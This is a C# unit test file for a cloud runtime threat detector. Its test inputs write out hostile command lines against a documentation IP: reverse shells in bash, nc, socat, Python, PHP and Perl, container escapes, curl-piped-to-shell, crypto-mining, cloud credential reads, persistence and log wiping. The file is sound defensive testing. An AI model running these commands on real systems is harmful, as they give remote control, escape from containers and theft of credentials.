using Nephoscope.Behavior;
using Nephoscope.Detections;
using Nephoscope.Detections.Runtime;
using Nephoscope.Events;

namespace Nephoscope.Tests.Detections.Runtime;

public sealed class ProcessDetectorTests
{
    private const string Wallet = "48abcdefghij1234567890ABCDEFGHIJabcdefghij1234567890ABCDEFGHIJabcdefghij1234567890ABCDEFGHIJabc";

    [Theory]
    [InlineData("/bin/bash", "-c \"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\"")]
    [InlineData("/usr/bin/nc", "203.0.113.9 4444 -e /bin/sh")]
    [InlineData("/usr/bin/socat", "tcp-connect:203.0.113.9:443 exec:/bin/bash,pty,stderr")]
    [InlineData("/bin/sh", "-c \"mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.9 443 > /tmp/f\"")]
    [InlineData("/usr/bin/python3", "-c \"import socket,os,pty;s=socket.socket();s.connect(('203.0.113.9',443));os.dup2(s.fileno(),0);pty.spawn('/bin/sh')\"")]
    [InlineData("/usr/bin/php", "-r \"$s=fsockopen('203.0.113.9',443);exec('/bin/sh -i <&3 >&3');\"")]
    [InlineData("/usr/bin/perl", "-e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,x);open(STDIN,\">&S\");exec(\"/bin/sh -i\");'")]
    public void Reverse_shell_fires(string path, string arguments) => On(new ReverseShell(), s => s.Process(path, arguments).Fires(7));

    [Theory]
    [InlineData("/usr/bin/grep", "-r \"/dev/tcp/ bash >&\" /var/log")]
    [InlineData("/bin/bash", "-c \"echo ok > /dev/tcp-check\"")]
    [InlineData("/usr/bin/nc", "db.internal 443")]
    [InlineData("/bin/bash", "-i")]
    [InlineData("/usr/bin/nc", "-zv db.internal 5432")]
    public void Reverse_shell_stays_quiet(string path, string arguments) => On(new ReverseShell(), s => s.Process(path, arguments).Quiet());

    [Fact]
    public void Shell_with_a_connection_fires_and_an_application_with_one_does_not()
    {
        On(new ShellNetworkConnection(), s => s.Connect("203.0.113.9", 443, "/bin/bash", "/usr/sbin/nginx").Fires(6));
        On(new ShellNetworkConnection(), s => s.Connect("203.0.113.9", 443, "/usr/bin/curl", "/bin/bash").Quiet());
        On(new ShellNetworkConnection(), s => s.Connect("127.0.0.1", 443, "/bin/bash").Quiet());
    }

    [Theory]
    [InlineData("/usr/bin/nsenter", "-t 1 -m -u -n -i -p bash", "/bin/bash", 7)]
    [InlineData("/usr/bin/bash", "", "/usr/bin/nsenter", 6)]
    [InlineData("/bin/sh", "-c \"echo /cmd > /tmp/cg/release_agent\"", "/bin/sh", 7)]
    [InlineData("/usr/bin/curl", "--unix-socket /var/run/docker.sock http://localhost/containers/json", "/bin/sh", 7)]
    [InlineData("/bin/mount", "/dev/sda1 /mnt", "/bin/sh", 5)]
    [InlineData("/usr/sbin/chroot", "/host bash", "/bin/sh", 5)]
    [InlineData("/usr/bin/unshare", "-UrmC bash", "/bin/sh", 3.5)]
    public void Escape_fires_in_a_container_only(string path, string arguments, string parent, double nats)
    {
        On(new ContainerEscape(), s => s.Process(path, arguments, parent).Fires(nats));
        On(new ContainerEscape(), s => s.Process(path, arguments, parent, container: false).Quiet());
    }

    [Theory]
    [InlineData("/bin/mount", "-t tmpfs tmpfs /cache")]
    [InlineData("/usr/bin/grep", "release_agent /notes")]
    [InlineData("/usr/bin/curl", "http://docker.socket.example/")]
    public void Escape_stays_quiet(string path, string arguments) => On(new ContainerEscape(), s => s.Process(path, arguments).Quiet());

    [Fact]
    public void Escape_by_call_or_file()
    {
        On(new ContainerEscape(), s => s.Call(EventKind.KernelActivity, "__x64_sys_setns", "/usr/bin/nsenter", arguments: "-t 1 -m -u -n -i -p").Fires(7));
        On(new ContainerEscape(), s => s.Call(EventKind.KernelActivity, "__x64_sys_setns", "/usr/bin/runc").Quiet());
        On(new ContainerEscape(), s => s.Call(EventKind.FileActivity, "__x64_sys_write", "/bin/sh", "/proc/sys/kernel/core_pattern").Fires(7));
        On(new ContainerEscape(), s => s.Call(EventKind.FileActivity, "__x64_sys_read", "/bin/cat", "/proc/sys/kernel/core_pattern").Quiet());
    }

    [Fact]
    public void Download_chmod_and_run_within_minutes_fires()
    {
        On(new DropAndExecute(), s =>
        {
            s.Process("/usr/bin/curl", "-o /tmp/x http://203.0.113.9/x");
            s.Clock = 20;
            s.Process("/bin/chmod", "+x /tmp/x");
            s.Clock = 30;
            s.Process("/tmp/x", "").Fires(6);
        });
        On(new DropAndExecute(), s =>
        {
            s.Process("/usr/bin/curl", "-o /tmp/x http://203.0.113.9/x");
            s.Clock = 1200;
            s.Process("/tmp/x", "").Quiet();
        });
    }

    [Fact]
    public void Memory_only_and_marked_programs_fire_unless_known()
    {
        On(new DropAndExecute(), s => s.Process("/memfd:a (deleted)", "").Fires(5.5));
        On(new DropAndExecute(), s => s.Process("/usr/bin/new", "", flags: EventFlags.DroppedExecutable).Fires(5.5));
        On(new DropAndExecute(), s => s.Level(Feature.ChildProcess, NoveltyLevel.Known).Process("/usr/bin/new", "", flags: EventFlags.DroppedExecutable).Quiet());
    }

    [Fact]
    public void Download_into_a_shell()
    {
        On(new DownloadPipedToShell(), s => s.Process("/bin/sh", "-c \"curl -s http://203.0.113.9/a.sh | bash\"").Fires(4));
        On(new DownloadPipedToShell(), s => s.Process("/bin/sh", "-c \"curl -s http://example.com/a.json | jq .\"").Quiet());
    }

    [Theory]
    [InlineData("/tmp/a", "-o stratum+tcp://203.0.113.9:3333 -u x", 7)]
    [InlineData("/usr/bin/svc", "-o 203.0.113.9:443 -u " + Wallet, 6.5)]
    [InlineData("/usr/bin/svc", "--donate-level 1 --coin monero", 5)]
    [InlineData("/usr/bin/xmrig", "", 2)]
    public void Mining_process_fires(string path, string arguments, double nats) =>
        On(new MiningProcess(), s => Assert.InRange(s.Process(path, arguments).Fires(nats).Evidence.Nats, nats, nats));

    [Theory]
    [InlineData("/usr/bin/grep", "stratum+tcp:// /var/log/syslog")]
    [InlineData("/usr/bin/java", "-jar coin-service.jar --server.port 3333")]
    public void Mining_process_stays_quiet(string path, string arguments) => On(new MiningProcess(), s => s.Process(path, arguments).Quiet());

    [Fact]
    public void Shell_is_judged_by_novelty_and_history()
    {
        On(new WorkloadShellNew(), s => s.Level(Feature.ChildProcess, NoveltyLevel.NewToPeers).Process("/bin/sh", "-c id", "/usr/sbin/nginx").Fires(3.5));
        On(new WorkloadShellNew(), s => s.Level(Feature.ChildProcess, NoveltyLevel.Known).Process("/bin/sh", "-c id", "/usr/sbin/nginx").Quiet());
        On(new WorkloadShellNew(), s => s.Cold().Level(Feature.ChildProcess, NoveltyLevel.NewToAccount).Process("/bin/sh", "-c id").Quiet());
    }

    [Fact]
    public void Metadata_service()
    {
        On(new MetadataServiceAccess(), s => s.Process("/usr/bin/curl", "http://169.254.169.254/latest/meta-data/iam/security-credentials/").Fires(4.5));
        On(new MetadataServiceAccess(), s => s.Level(Feature.Destination, NoveltyLevel.Known).Connect("169.254.169.254", 80).Quiet());
        On(new MetadataServiceAccess(), s => s.Level(Feature.Destination, NoveltyLevel.NewToPeers).Connect("169.254.169.254", 80).Fires(2));
        On(new MetadataServiceAccess(), s => s.Process("/usr/bin/curl", "http://169.254.1.1/").Quiet());
    }

    [Fact]
    public void Credential_files()
    {
        On(new CredentialFileRead(), s => s.Process("/bin/cat", "/var/run/secrets/kubernetes.io/serviceaccount/token").Fires(3));
        On(new CredentialFileRead(), s => s.Call(EventKind.FileActivity, "security_file_open", "/usr/bin/java", "/var/run/secrets/kubernetes.io/serviceaccount/token").Quiet());
        On(new CredentialFileRead(), s => s.Process("/bin/cat", "/usr/share/elasticsearch/config/elasticsearch.keystore").Quiet());
        On(new CredentialFileRead(), s => s.Process("/bin/cat", "/etc/passwd").Quiet());
    }

    [Fact]
    public void Privileges_in_a_container()
    {
        On(new PrivilegeToolInContainer(), s => s.Call(EventKind.KernelActivity, "commit_creds", "/tmp/su", details: "[{\"c\":{\"uid\":0,\"euid\":0}}]").Fires(4.5));
        On(new PrivilegeToolInContainer(), s => s.Process("/usr/bin/sudo", "id").Fires(1.5));
        On(new PrivilegeToolInContainer(), s => s.Process("/usr/bin/sudo", "id", container: false).Quiet());
        On(new PrivilegeToolInContainer(), s => s.Process("/bin/chmod", "755 /app").Quiet());
    }

    [Fact]
    public void Four_kinds_of_questions_are_reconnaissance_three_are_not()
    {
        string[] commands = ["whoami", "uname", "ps", "env"];
        foreach (int count in (int[])[3, 4])
        {
            On(new ReconnaissanceCommands(), s =>
            {
                foreach (string command in commands.Take(count))
                {
                    s.Clock += 5;
                    s.Process("/usr/bin/" + command, "").Process("/usr/bin/" + command, "");
                }

                Assert.Equal(count == 4 ? 1 : 0, s.Findings.Count);
            });
        }
    }

    [Fact]
    public void Persistence_on_a_host()
    {
        On(new HostPersistence(), s => s.Process("/bin/sh", "-c \"echo /tmp/l.so > /etc/ld.so.preload\"", container: false).Fires(5.5));
        On(new HostPersistence(), s => s.Call(EventKind.FileActivity, "security_file_open", "/bin/sh", "/root/.ssh/authorized_keys", "O_WRONLY|O_CREAT", container: false).Fires(3.5));
        On(new HostPersistence(), s => s.Call(EventKind.FileActivity, "security_file_open", "/usr/sbin/sshd", "/root/.ssh/authorized_keys", "O_RDONLY", container: false).Quiet());
        On(new HostPersistence(), s => s.Call(EventKind.FileActivity, "__x64_sys_write", "/usr/bin/vi", "/etc/passwd").Quiet());
    }

    [Fact]
    public void Traces_wiped()
    {
        On(new HostLogTampering(), s => s.Process("/bin/rm", "-rf /var/log/auth.log", container: false).Fires(4));
        On(new HostLogTampering(), s => s.Process("/bin/bash", "-c \"unset HISTFILE\"", container: false).Fires(3.5));
        On(new HostLogTampering(), s => s.Process("/bin/rm", "/var/log/auth.log.7.gz", "/usr/sbin/logrotate", container: false).Quiet());
        On(new HostLogTampering(), s => s.Process("/bin/rm", "/var/log/shop/old.log", container: false).Quiet());
    }

    [Fact]
    public void Toolchain_and_cloud_tools_only_where_new()
    {
        On(new ToolchainInContainer(), s => s.Level(Feature.ChildProcess, NoveltyLevel.NewToPeers).Process("/usr/bin/gcc", "-o a a.c").Fires(1.5));
        On(new ToolchainInContainer(), s => s.Level(Feature.ChildProcess, NoveltyLevel.NewToActor).Process("/usr/bin/gcc", "-o a a.c").Quiet());
        On(new CloudToolNew(), s => s.Level(Feature.ChildProcess, NoveltyLevel.NewToActor).Process("/usr/bin/kubectl", "get pods").Fires(1.5));
        On(new CloudToolNew(), s => s.Level(Feature.ChildProcess, NoveltyLevel.Known).Process("/usr/bin/kubectl", "get pods").Quiet());
    }

    [Fact]
    public void Kernel_modules()
    {
        On(new KernelModuleLoad(), s => s.Call(EventKind.KernelActivity, "do_init_module", "/usr/sbin/insmod", details: "TAINT_UNSIGNED_MODULE", container: false).Fires(4.5));
        On(new KernelModuleLoad(), s => s.Process("/sbin/modprobe", "-q -- fs-xfs", "<kernel>", container: false).Quiet());
    }

    [Fact]
    public void Injection_privileged_containers_and_tunnels()
    {
        On(new ProcessInjection(), s => s.Call(EventKind.KernelActivity, "sys_ptrace", "/tmp/a", details: "PTRACE_ATTACH").Fires(4.5));
        On(new ProcessInjection(), s => s.Call(EventKind.KernelActivity, "sys_ptrace", "/usr/bin/gdb", container: false).Quiet());
        On(new PrivilegedContainer(), s => s.Process("/bin/bash", "", "/usr/bin/runc", flags: EventFlags.Privileged).Fires(3.5));
        On(new PrivilegedContainer(), s => s.Process("/bin/bash", "", "/usr/bin/runc").Quiet());
        On(new TunnelTool(), s => s.Process("/usr/bin/ssh", "-N -R 8080:localhost:80 a@203.0.113.9").Fires(3));
        On(new TunnelTool(), s => s.Process("/usr/bin/ssh", "git@example.com git-upload-pack x").Quiet());
    }

    [Fact]
    public void A_loop_of_one_command_is_one_finding() => On(new ReverseShell(), s =>
    {
        for (int i = 0; i < 50; i++)
        {
            s.Clock = i;
            s.Process("/usr/bin/nc", "203.0.113.9 4444 -e /bin/sh");
        }

        s.Fires(7);
    });

    internal static void On(IDetector detector, Action<Scene> act)
    {
        using var scene = new Scene(detector);
        act(scene);
    }
}
